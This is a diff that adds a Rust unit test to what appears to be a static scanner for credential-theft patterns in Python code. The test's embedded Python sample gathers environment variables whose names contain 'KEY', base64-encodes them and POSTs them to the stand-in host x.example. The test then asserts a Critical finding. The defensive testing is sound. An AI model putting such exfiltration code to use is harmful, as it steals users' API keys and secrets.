@@ -327,3 +327,12 @@ fn gate_needs_a_source_and_a_sink_word() {
     ));
     assert!(!worth_parsing(b"import numpy as np\nprint(np.zeros(3))\n"));
 }
+
+#[test]
+fn methods_called_on_self_or_a_class() {
+    let v = py("import os, requests, base64, json\n\
+        class H:\n    @staticmethod\n    def grab():\n        out = {}\n        for k, v in os.environ.items():\n            if 'KEY' in k:\n                out[k] = v\n        return out\n\
+        \n    def send(self, s):\n        enc = base64.b64encode(json.dumps({'e': s}).encode())\n        requests.post('https://x.example/s', json={'d': enc})\n\
+        \n    def run(self):\n        self.send(H.grab())\n");
+    assert_eq!(one(&v, CREDENTIAL_FLOW), Severity::Critical);
+}
